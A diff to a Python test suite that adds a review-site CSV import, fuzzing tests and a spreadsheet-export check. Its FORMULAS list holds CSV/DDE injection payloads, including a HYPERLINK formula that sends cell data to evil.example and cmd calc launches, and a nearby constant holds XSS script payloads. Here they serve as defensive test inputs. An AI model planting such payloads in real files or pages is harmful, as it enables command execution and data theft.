@@ -42,6 +42,7 @@ from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
 from typing import Any
 
+import pandas as pd
 import pytest
 from hypothesis import HealthCheck, event, example, given, settings
 from hypothesis import strategies as st
@@ -50,9 +51,10 @@ from sqlalchemy.exc import IntegrityError
 from vaderSentiment.vaderSentiment import SentimentIntensityAnalyzer
 
 from analysis import sentiment
+from analysis.reviews import settle as review_rule
 from analysis.text import ANSWERED_BY_BRAND, analyse_text, needing_response
 from commands.analyze_stream import analyze_stream
-from connectors import feed, reddit, x, youtube
+from connectors import feed, reddit, reviews, x, youtube
 from connectors.base import (
     MAX_TEXT_BYTES,
     Batch,
@@ -64,6 +66,7 @@ from connectors.base import (
 )
 from connectors.files import CSV_COLUMNS, CSV_REQUIRED, ImportFormatError, import_batches
 from connectors.mail import IgnoredMessage, post_from_message
+from pipeline.spreadsheet import spreadsheet_csv
 from pipeline.workspace import Workspace, open_workspace
 from store.accounts import add_account
 from store.schema import cases, posts, sync_errors, sync_state
@@ -910,6 +913,26 @@ KNOWN_CRASHES = [
         lambda: youtube.posts_from_comment_threads(_yt_thread({**_COMMENT, "id": 5})),
         "youtube",
     ),
+    # review rows go through the import: they are CSV rows (``_review_import``, below)
+    _mapping_case("reviews-rating-nan", lambda: _review_import(rating="nan"), "reviews", 0),
+    _mapping_case("reviews-rating-huge", lambda: _review_import(rating="1e400"), "reviews", 0),
+    _mapping_case(
+        "reviews-rating-two-commas", lambda: _review_import(rating="4,5,1"), "reviews", 0
+    ),
+    _mapping_case("reviews-id-nul", lambda: _review_import(id="1\x00"), "reviews", 1),
+    _mapping_case("reviews-id-1000-chars", lambda: _review_import(id="7" * 1000), "reviews", 1),
+    _mapping_case("reviews-site-nul", lambda: _review_import(site="glass\x00door"), "reviews", 1),
+    _mapping_case(
+        "reviews-created-at-year-1", lambda: _review_import(created_at="0001-01-01"), "reviews", 0
+    ),
+    _mapping_case("reviews-url-3000-chars", lambda: _review_import(url="h" * 3000), "reviews", 1),
+    _mapping_case(
+        "reviews-author-1000-chars", lambda: _review_import(author="a" * 1000), "reviews", 1
+    ),
+    _mapping_case("reviews-title-1mb", lambda: _review_import(title="t" * MB), "reviews", 1),
+    _mapping_case(
+        "reviews-cons-only-spaces", lambda: _review_import(pros=" ", cons=" "), "reviews", 0
+    ),
 ]
 
 
@@ -1252,6 +1275,106 @@ def test_csv_reads_a_1mb_text_and_keeps_its_first_64kb_emoji_intact(tmp_path):
     assert problems == [] and MAX_TEXT_BYTES - 4 < len(kept) <= MAX_TEXT_BYTES
     assert text.replace("\x00", "").startswith(post.text)
     assert "text cut to its first 64 KB" in post.notes[0]
+
+
+# ------------------------------------------------------------------------------ review sites
+
+_REVIEW_VALUE = {
+    "site": st.sampled_from(["glassdoor", "Indeed ", "kununu", "glass door", " ", "x" * 70]),
+    "id": st.one_of(st.text(max_size=8), SNOWFLAKE),
+    "created_at": ISO_TIME,
+    "rating": st.one_of(
+        st.sampled_from(["", "1", "5", "4,6", "0", "6", "nan", "inf", "-1", "1e400", "4.5.1"]),
+        st.text(max_size=4),
+    ),
+}
+_REVIEW_HEADERS = [*reviews.COLUMNS, "Review Id", "Summary", "Rating Overall", "extra", " ID"]
+
+
+@st.composite
+def reviews_file(draw) -> tuple[bytes, list[str], int]:
+    """A review CSV of random rows under a random header (ours, the sites' names, missing,
+    repeated, extra)."""
+    header = draw(st.lists(st.sampled_from(_REVIEW_HEADERS), min_size=1, max_size=12))
+    canonical = reviews.canonical_header(header)
+    rows = draw(
+        st.lists(st.tuples(*[_REVIEW_VALUE.get(c, FILE_TEXT) for c in canonical]), max_size=8)
+    )
+    rows = [
+        list(row)[: draw(st.integers(1, len(row) + 2))] + draw(st.lists(FILE_TEXT, max_size=1))
+        for row in rows
+    ]
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(header)
+    writer.writerows(rows)
+    bom = draw(st.sampled_from(["", "\ufeff"]))
+    return (bom + buffer.getvalue()).encode("utf-8"), header, len(rows)
+
+
+@FAST
+@given(spec=reviews_file())
+def test_reviews_import_maps_every_row_or_refuses_the_file_in_one_line(spec):
+    """A header that is not a reviews CSV is one ``ImportFormatError`` line; else each row is
+    a review the store can hold (stars from 1 to 5 or none) or a problem with its line."""
+    content, header, rows = spec
+    problem = reviews.header_problem(reviews.canonical_header(header))
+    with _file(content, ".csv") as path:
+        if problem:
+            with pytest.raises(ImportFormatError, match="is not a reviews CSV") as refused:
+                _imported(path, "reviews")
+            assert "\n" not in str(refused.value)
+            return
+        found, problems = _imported(path, "reviews")
+    assert len(found) + len(problems) == rows
+    for post in found:
+        assert_well_formed(post, "reviews")
+        assert_storable(post)
+        assert post.rating is None or (isinstance(post.rating, float) and 1 <= post.rating <= 5)
+        assert post.author_id == post.thread_key == post.external_id
+    assert all(p.reason.startswith("line ") for p in problems)
+
+
+def _review_import(**fields: str) -> tuple[list[Post], list[Problem]]:
+    """One review row (a valid one with ``fields`` changed) through the ``reviews`` import."""
+    row = {"site": "glassdoor", "id": "1", "created_at": _AT, "pros": "Pay", **fields}
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, list(row))
+    writer.writeheader()
+    writer.writerow(row)
+    with _file(buffer.getvalue().encode("utf-8", "surrogatepass"), ".csv") as path:
+        return _imported(path, "reviews")
+
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+HTML_IN_REVIEW = '<b>bold</b><img src=x onerror="alert(1)"><script>alert(2)</script>'
+
+
+@pytest.mark.parametrize("field", ["title", "pros", "cons", "text", "author"])
+@pytest.mark.parametrize("value", [*FORMULAS, HTML_IN_REVIEW])
+def test_a_review_keeps_formulas_and_html_as_plain_text_and_no_csv_runs_them(field, value):
+    """A review is stored with its words exactly as written (nothing evaluated, nothing
+    stripped), and a spreadsheet opening a download of it runs no formula."""
+    found, problems = _review_import(**{field: value})
+    [post] = found
+    assert problems == []
+    assert value in (post.author_handle if field == "author" else post.text)
+    cells = list(
+        csv.reader(
+            io.StringIO(
+                spreadsheet_csv(
+                    pd.DataFrame({"Author": [post.author_handle], "Post": [post.text]})
+                ).decode("utf-8")
+            )
+        )
+    )
+    assert [c for row in cells for c in row if c.startswith(("=", "+", "-", "@"))] == []
 
 
 @st.composite
@@ -1726,9 +1849,11 @@ def _row_matches(row: Any, post: Post) -> bool:
         "is_auto_reply",
         "lang",
         "source",
+        "rating",
     )
     is_brand = BRAND in (post.author_id.lower(), post.author_handle.lower())
     facts = analyse_text(post.text, is_brand, post.lang, row.channel, post.is_auto_reply)
+    facts = review_rule(post.platform, is_brand, facts, post.text, post.rating)
     if row.reason == ANSWERED_BY_BRAND:  # a brand post of the batch answers it
         facts = needing_response(facts, post.text, row.channel)
     return (
@@ -2011,6 +2136,10 @@ ODD_FIELDS = {
             "includes": {"users": [{"id": "7", "public_metrics": {"followers_count": 2**40}}]},
         }
     )[0],
+    "reviews-id-over-255": lambda: _review_import(id="7" * 1000)[0],
+    "reviews-longest-site-and-decimal-stars": lambda: _review_import(site="s" * 64, rating="4,75")[
+        0
+    ],
 }
 
 
